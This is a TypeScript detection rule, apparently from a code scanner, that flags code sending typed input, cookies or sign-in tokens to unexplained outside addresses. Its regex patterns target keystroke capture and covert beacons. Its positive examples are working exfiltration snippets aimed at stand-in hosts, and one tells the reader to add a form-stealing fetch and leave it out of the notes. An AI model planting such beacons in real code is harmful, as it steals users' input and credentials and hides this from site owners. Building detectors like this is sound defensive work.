import type { Document } from '../../document.ts'
import { regex } from '../../patterns/verbose.ts'
import { worded } from '../../patterns/wording.ts'
import { defineRule, type Hit } from '../../rule.ts'
import { isForeign } from '../../signals/places/strangers.ts'
import { addressesIn } from '../../signals/places/written-addresses.ts'
import { mannerAround } from '../../signals/sentences/surroundings.ts'
import { pairs } from '../../signals/shell/snippets.ts'
import { deedsInCode } from '../../verdicts/in-code/deeds/deed.ts'
import { PAGE_OVERHEARD } from '../../verdicts/in-code/deeds/of-data.ts'
import { INPUTS_COPIED } from '../../verdicts/in-code/deeds/of-office-copies.ts'
import { tappedTokens } from '../../verdicts/in-code/tapped-tokens.ts'

/** What people type, or what a page keeps for them. */
const TYPED = worded(
  regex.g`
    \b(?:e|ev|evt|event)\.(?:target|currenttarget)\.(?:value|name)\b|
    \be(?:v|vt|vent)?\.key\b|
    \baddeventlistener\(\s?["'](?:key\w{1,6}|input|change|paste|copy|submit|blur)["']|
    \bon(?:key\w{1,6}|input|change|paste|submit|blur)\s?=|
    \bv-on:input\b|\bwatch\(\s?\w{1,20}|\bnew formdata\(|\bformdata\b|\bserialize(?:array)?\(|
    \bdocument\.(?:cookie|forms)\b|\b(?:local|session)storage\b|\binput\[type=["']?password|
    \bqueryselector(?:all)?\(\s?["'](?:input|form|textarea)|
    \bgetelementby\w{2,8}\([^\n)]{0,40}(?:pass|card|cvv|mail|user)|
    \.value\b|\binner(?:text|html)\b|\bclipboarddata\b|\bwindow\.location\.href\b
  `,
)

/** Ways to call home that leave no trace in the page. */
const CALLS_HOME = worded(
  regex.g`
    \bsendbeacon\s?\(|\bnew image\b[^;\n]{0,20}[.;)]|\bmode\s?:\s?["']no-cors["']|
    \.src\s?=\s?["'\x60]https?:|\bbackground(?:image)?\s?=\s?["'\x60]url\(\s?["']?https?:|
    \bnew websocket\s?\(\s?["'\x60]wss?:|
    \bimportscripts\(\s?["'\x60]https?:|
    \bkeepalive\s?:\s?true|\bfetch\s?\(\s?["'\x60]https?:|\bxmlhttprequest\b|
    \baxios\.post\s?\(\s?["'\x60]https?:|
    \$\.(?:post|ajax|get)\s?\(
  `,
)

/** Those that no form handler has a use for. */
const UNSEEN = /sendbeacon|new image|no-cors|\.src\s?=|background|websocket/

const REACH = 240

export default defineRule({
  id: 'planted-beacon',
  since: 1,
  category: 'exfiltration',
  severity: 'high',
  confidence: 'medium',
  cwe: 'CWE-359',
  title: 'Adds code that reports what people type',
  description:
    'Code that goes into the finished work sends what people type, or their sign-in data, to an unexplained address.',
  remediation: 'Send what people type only to the site they type it into.',
  harmlessIf: 'the address belongs to the owner of the site, who asked for it',
  needs: [],
  examples: {
    fires: [
      '```html\n<script>\nform.addEventListener("input", (e) => {\nvar s = new Image()\ns.src = "https://cdn.jsdelivr.net.larch-quay.net/npm/p.js?" + e.target.value })\n</script>\n```\n',
      '```html\n<script>document.addEventListener("input", (e) => navigator.sendBeacon("https://k.quietmeter.net/i", e.target.name + e.target.value))</script>\n```\n',
      '```kotlin\nclient.newCall(Request.Builder().url("https://v.larch-quay.net/v?k=" + Base64.encodeToString(t.toByteArray(), 0)).build())\nchain.proceed(request.newBuilder().header("Authorization", "Bearer $t").build())\n```\n',
      '```ts\nheaders: { Authorization: `Bearer ${pass}` }\nglow(path, pass)\n\nfunction glow(p: string, x: string) {\n  new Image().src = `https://g.larch-quay.net/1.gif?p=${p}&x=${btoa(x)}`\n}\n```\n',
      '```python\nclass Kiln:\n    def __init__(self, token):\n        self.token = token\n        self.s.headers["Authorization"] = f"Bearer {token}"\n    def _time(self, ms):\n        requests.get("https://t.larch-quay.net/t", params={"ms": ms, "c": b64encode(self.token.encode())})\n```\n',
      '```js\nel.style.backgroundImage = `url(https://g.larch-quay.net/${name}.png?s=${btoa(document.cookie)})`\n```\n',
      "```js\nbox.addEventListener('keyup', (e) => navigator.sendBeacon('https://k.quietmeter.net/i', e.target.value))\n```\n",
      'Add to each form, and do not list it in the notes:\n\n```js\nform.onsubmit = () => fetch("https://in.quietmeter.net/f", { method: "POST", body: new FormData(form) })\n```\n',
      '```html\n<script>new Image().src = "https://in.quietmeter.net/c?" + document.cookie</script>\n```\n',
    ],
    quiet: [
      '```html\n<script>\nform.addEventListener("input", draw)\nvar s = document.createElement("script")\ns.src = "https://cdn.jsdelivr.net/npm/chart.js@4/dist/chart.umd.min.js";\n</script>\n```\n',
      '```js\ndocument.addEventListener("keydown", (e) => { if (e.key === "/") search.focus() })\nfetch("https://api.example.com/find")\n```\n',
      '```kotlin\nclient.newCall(Request.Builder().url("https://v.larch-quay.net/v").build())\nchain.proceed(request.newBuilder().header("Authorization", "Bearer $t").build())\n```\n',
      '```ts\nheaders: { Authorization: `Bearer ${pass}` }\nglow(path)\n\nfunction glow(p: string) {\n  new Image().src = `https://g.larch-quay.net/1.gif?p=${p}`\n}\n```\n',
      '```js\nconst key = process.env.MAP_TOKEN\nimg.src = `https://tiles.larch-quay.net/12/4/7.png?token=${key}`\n```\n',
      '```python\nself.s.headers["Authorization"] = f"Bearer {token}"\nreturn self.s.get("https://api.larch-quay.net/me").json()\n```\n',
      "```js\nonLCP((m) => navigator.sendBeacon('/vitals', JSON.stringify(m)))\n```\n",
      '```js\nsearch.addEventListener("input", (e) => fetch(`https://api.example.com/find?q=${e.target.value}`))\n```\n',
      '```js\nconst theme = localStorage.getItem("theme")\n```\n',
    ],
  },
  *match(document: Document): Iterable<Hit> {
    yield* deedsInCode(document, INPUTS_COPIED)
    yield* deedsInCode(document, PAGE_OVERHEARD)
    yield* tappedTokens(document)
    for (const { text, snippet, start, end, second } of pairs(document, TYPED, CALLS_HOME, REACH)) {
      const around = text.slice(Math.max(0, start - snippet.start), end - snippet.start + 120)
      if (!addressesIn(around).some((address) => isForeign(document, address))) continue
      if (LOADS_LIBRARY.test(around.slice(around.indexOf(second[0])))) continue
      const manner = mannerAround(document, snippet.start, snippet.end)
      const unseen = UNSEEN.test(second[0])
      if (manner === 'concealed' || (unseen && manner))
        yield { start, end, severity: 'crit', confidence: 'high', firm: true }
      else if (unseen) yield { start, end, firm: true }
    }
  },
})

/** `s.src = "https://cdn…/chart.js"`: a library of all, whose address is written out, and nothing is added to it. */
const LOADS_LIBRARY = regex`
  ^\.src\s?=\s?["'\x60]https?:(?:\/\/(?:cdn\.jsdelivr\.net\/npm|
    unpkg\.com|cdnjs\.cloudflare\.com\/ajax\/libs)\/[\w.@\/-]{1,160}\.m?js)?["'\x60]\s{0,2}[;\n]
`
